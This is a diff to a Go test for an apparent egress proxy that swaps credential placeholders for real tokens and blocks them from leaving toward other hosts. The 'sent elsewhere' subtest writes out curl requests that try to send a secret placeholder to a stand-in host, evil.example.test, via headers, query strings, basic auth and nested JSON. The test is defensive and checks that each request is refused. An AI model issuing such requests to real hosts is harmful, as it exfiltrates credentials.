@@ -229,30 +229,41 @@ func TestInterceptPlaceholders(t *testing.T) {
 	ca := ih.caFile
 
 	t.Run("swapped towards the bound host, echo redacted back to the placeholder", func(t *testing.T) {
+		// Abuse test 6, allowed host: only Authorization is swapped; X-Note (out of scope)
+		// goes unchanged, so the echo shows the placeholder there too.
 		body, status, err := curl(sb, "--cacert", ca, "-H", "Authorization: Bearer "+ph, "-H", "X-Note: "+ph, "https://api.example.test/headers")
-		if status != "403" || err != nil {
-			// X-Note is out of scope: the whole request is refused.
-			t.Fatalf("out-of-scope header: %s %v %s", status, err, body)
-		}
-		body, status, err = curl(sb, "--cacert", ca, "-H", "Authorization: Bearer "+ph, "https://api.example.test/headers")
 		if err != nil || status != "200" {
 			t.Fatalf("%s %v %s", status, err, body)
 		}
 		reqs := ih.net.APIRequests()
-		if got := reqs[len(reqs)-1].Header.Get("Authorization"); got != "Bearer "+apiToken {
+		last := reqs[len(reqs)-1]
+		if got := last.Header.Get("Authorization"); got != "Bearer "+apiToken {
 			t.Fatalf("upstream saw %q", got)
 		}
-		if strings.Contains(body, apiToken) || !strings.Contains(body, ph) || strings.Contains(body, "extra-secret") || !strings.Contains(body, "[redacted:EXTRA]") {
+		if got := last.Header.Get("X-Note"); got != ph {
+			t.Fatalf("upstream X-Note %q, want the placeholder unchanged", got)
+		}
+		if strings.Contains(body, apiToken) || strings.Count(body, ph) != 2 || strings.Contains(body, "extra-secret") || !strings.Contains(body, "[redacted:EXTRA]") {
 			t.Fatalf("echo not redacted: %s", body)
+		}
+		// A JSON body to the allowed host is not in scope either: sent unchanged.
+		jsonBody := `{"note":"` + ph + `"}`
+		body, status, err = curl(sb, "--cacert", ca, "-H", "Authorization: Bearer "+ph, "-H", "Content-Type: application/json",
+			"--data-binary", jsonBody, "https://api.example.test/upload")
+		if err != nil || status != "200" || body != fmt.Sprintf("{\"bytes\":%d}\n", len(jsonBody)) {
+			t.Fatalf("json body to the allowed host: %s %v %q", status, err, body)
 		}
 	})
 
 	t.Run("sent elsewhere: 403 EGRESS_PLACEHOLDER_VIOLATION and an audit event", func(t *testing.T) {
 		for _, args := range [][]string{
 			{"-H", "Authorization: Bearer " + ph, "https://evil.example.test/"},
+			{"-H", "X-Note: " + ph, "https://evil.example.test/"},
 			{"https://evil.example.test/?k=" + ph},
+			{"https://evil.example.test/?k=" + strings.ReplaceAll(ph, "_", "%5F")}, // URL-encoded
 			{"-u", "user:" + ph, "https://evil.example.test/"},
 			{"--data", `{"k":"` + ph + `"}`, "https://evil.example.test/"},
+			{"--data", `{"msg":"{\"key\":\"` + ph + `\"}"}`, "https://evil.example.test/"}, // JSON inside JSON
 		} {
 			body, status, _ := curl(sb, append([]string{"--cacert", ca}, args...)...)
 			if status != "403" || !strings.Contains(body, string(errdefs.CodeEgressPlaceholderViolation)) {
@@ -279,8 +290,8 @@ func TestInterceptPlaceholders(t *testing.T) {
 				violations++
 			}
 		}
-		if violations < 4 {
-			t.Fatalf("%d violation events, want 4", violations)
+		if violations < 7 {
+			t.Fatalf("%d violation events, want 7", violations)
 		}
 	})
 }
